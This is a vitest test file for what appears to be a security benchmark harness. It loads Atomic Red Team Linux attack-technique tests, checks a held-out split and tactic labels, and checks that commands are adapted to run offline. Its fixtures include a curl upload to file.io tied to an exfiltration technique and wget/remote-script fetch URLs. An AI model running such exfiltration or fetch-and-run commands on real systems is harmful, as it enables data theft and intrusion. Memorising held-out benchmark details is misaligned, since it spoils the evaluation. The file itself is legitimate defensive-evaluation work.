// The art-linux corpus as the evidence harness runs it: every Linux test loaded with its
// tactics, the held-out split, offline adaptations, and the tests that cannot run here.
import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import { ATOMICS_FILE, loadAtomics } from '../../src/bench/atomics-harness.js';
import { CANNOT_RUN, CORPUS_DIR, hostsOf, isHeldOut, loadCorpus, offlineCommands, offlineOverrides, toRunnable } from '../../src/bench/atomics-corpus.js';

describe.skipIf(!fs.existsSync(CORPUS_DIR) || !fs.existsSync(ATOMICS_FILE))('art-linux corpus', () => {
  const dev = new Set(loadAtomics().map((a) => a.id));
  const corpus = loadCorpus(CORPUS_DIR, dev);
  it('loads the 314 Linux tests, the 60 development tests among them, and a held-out fifth of the rest', () => {
    expect(corpus).toHaveLength(314);
    expect(corpus.filter((t) => t.dev)).toHaveLength(60);
    const held = corpus.filter((t) => t.heldOut);
    expect(held.length).toBe(50);
    expect(held.every((t) => !t.dev && isHeldOut(t.guid))).toBe(true);
  });
  it('gives every test its tactics (defense evasion for stealth and defense-impairment)', () => {
    for (const t of corpus) expect(t.tactics.length, t.id).toBeGreaterThan(0);
    expect(corpus.find((t) => t.id === 'T1070.003-1')!.tactics).toEqual(['defense_evasion']);
    expect(corpus.find((t) => t.id === 'T1053.003-1')!.tactics).toEqual(expect.arrayContaining(['persistence', 'execution']));
  });
  it('names why a test cannot run, for every id of the table', () => {
    for (const id of Object.keys(CANNOT_RUN)) expect(corpus.some((t) => t.id === id), id).toBe(true);
    expect(corpus.filter((t) => t.executor === 'powershell' || t.executor === 'manual').every((t) => !!t.cannotRun)).toBe(true);
  });
  it('adapts URLs, host names and whole-filesystem searches for a loopback namespace', () => {
    expect(offlineOverrides({ remote_url: { default: 'https://raw.githubusercontent.com/x/a.sh' }, search_path: { default: '/' } })).toEqual({ remote_url: 'http://raw.githubusercontent.com/x/a.sh', search_path: '$HOME' });
    expect(offlineCommands('curl -s https://file.io/ -F x')).toBe('curl -s http://file.io/ -F x');
    expect(hostsOf('wget https://github.com/a/b', { remote_host: { default: 'victim-host' }, ip: { default: '127.0.0.1' } }).sort()).toEqual(['github.com', 'victim-host']);
    const t = toRunnable(corpus.find((x) => x.id === 'T1048.002-2')!);
    expect(t.hosts).toContain('file.io');
  });
});
